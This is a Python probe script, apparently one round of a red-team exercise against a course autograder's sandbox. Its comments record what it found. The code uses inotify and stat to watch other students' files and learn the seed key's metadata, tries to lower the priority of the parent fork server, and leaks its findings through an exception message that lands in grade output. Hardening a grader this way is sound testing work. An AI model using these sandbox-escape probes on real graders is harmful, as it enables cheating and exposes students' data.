# r68 (attack round 68): what a worker without namespaces (CNN_GRADER_NAMESPACES=0, or Gradescope) can still learn
# or touch that neither Landlock nor the seccomp filter covers.  Every probe is read-only or bounded; the findings
# leave as the last statement's exception message (grades.json, the row's units).  Seen as root, ns0, 2026-12-01:
#   stat_key=(65, 33152, ...)   the seed key's size, mode and mtime (stat is no Landlock right)
#   inotify={'/tmp/att68/in': 1, '/tmp/att68/out': 2, '/work/helpers': 3, '/tmp': 4}   watches granted on the
#       class folder, the output folder and the seed key's folder (Landlock has no inotify hook): a worker sees
#       the names of files opened, read or written there while it runs (with --jobs 2, the classmates' file names
#       as the judge reads them; the journal as it is written)
#   pidfd_open_parent=6, seqpacket_pair=(...)   allowed (harmless alone)
#   setpriority/sched_setscheduler/ioprio on the fork server: refused as root (other uid); without root: same uid
import os, ctypes, socket
found = []
def probe(name, fn):
    try:
        found.append(f"{name}={fn()!r}"[:160])
    except BaseException as exc:
        found.append(f"{name}!{type(exc).__name__}:{exc}"[:120])
libc = ctypes.CDLL(None, use_errno=True)
def inotify():
    fd = libc.inotify_init1(0o4000)
    if fd < 0: return ("init", ctypes.get_errno())
    out = {}
    for p in (b"/tmp/att68/in", b"/tmp/att68/out", b"/work/helpers", b"/tmp"):
        w = libc.inotify_add_watch(fd, p, 0xFFF)
        out[p.decode()] = w if w >= 0 else -ctypes.get_errno()
    return out
probe("inotify", inotify)
probe("stat_key", lambda: (lambda s: (s.st_size, s.st_mode, s.st_mtime))(os.stat("/work/helpers/h4.key")))
probe("stat_solutions", lambda: os.stat("/work/wt-att68/solutions/lecture06.ipynb").st_size)
probe("listdir_proc", lambda: len(os.listdir("/proc")))
probe("setpriority_parent", lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19))
probe("sched_idle_parent", lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0)))
probe("ioprio_parent", lambda: libc.syscall(251, 1, os.getppid(), (3 << 13)))
probe("pidfd_open_parent", lambda: libc.syscall(434, os.getppid(), 0))
probe("seqpacket_pair", lambda: len(socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)))
probe("uid", lambda: (os.getuid(), os.getgid()))
probe("env", lambda: sorted(os.environ))
raise RuntimeError("SURVEY " + " | ".join(found))
